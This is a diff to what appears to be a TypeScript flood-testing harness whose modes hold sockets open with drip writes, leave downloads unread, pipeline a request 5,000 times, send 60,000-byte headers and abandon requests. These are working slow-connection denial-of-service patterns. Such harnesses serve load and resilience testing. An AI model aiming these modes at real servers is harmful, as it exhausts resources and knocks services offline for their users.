@@ -23,7 +23,7 @@ interface Held {
 
 interface Pieces {
   readonly first: string
-  /** Sent again and again. */
+  /** Sent again and again. Who does not read learns by it alone that they were cut off. */
   readonly drip?: string
 }
 
@@ -38,7 +38,7 @@ const hold =
       attack.sent()
       await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
       socket.write(first)
-      while (!socket.destroyed && attack.goesOn()) {
+      while (!socket.destroyed && attack.isWanted()) {
         await delay(pauseMs)
         if (drip !== '') socket.write(drip)
       }
@@ -87,7 +87,10 @@ await runFlood({
   'unread downloads': hold({ ...many, lanes: 256, unread: true }, ({ given }) => ({
     first: get(given['path']),
   })),
-  'unread pipelines': hold({ ...many, lanes: 16, unread: true }, () => ({ first: asked.repeat(5_000) })),
+  'unread pipelines': hold({ ...many, lanes: 16, unread: true }, () => ({
+    first: asked.repeat(5_000),
+    drip: asked,
+  })),
   'large headers': leave(() => get('/', `X-A: ${'a'.repeat(60_000)}\r\n`)),
   'abandoned requests': leave(() => asked),
   'abandoned downloads': leave(({ given }) => get(given['path'], 'Range: bytes=0-\r\n')),
